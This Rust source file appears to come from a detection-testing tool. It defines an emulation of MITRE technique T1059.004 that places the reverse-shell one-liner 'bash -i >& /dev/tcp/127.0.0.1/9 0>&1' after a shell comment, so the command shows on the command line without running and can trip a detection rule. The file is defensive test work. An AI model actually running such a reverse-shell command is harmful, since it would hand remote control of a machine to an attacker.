//! The one-line reverse shell that every cheat sheet has, as an argument that is never run.

use std::process::Command;

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "shell-network-path",
    title: "Reverse shell command line through /dev/tcp",
    technique: "T1059.004",
    technique_v18: None,
    needs: &[],
    rules: &["Shell command opens a network device path"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    // The interesting part is a comment: it shows on the command line and does nothing.
    stage.run(Command::new("/bin/sh").args(["-c", "true # bash -i >& /dev/tcp/127.0.0.1/9 0>&1"]))
}
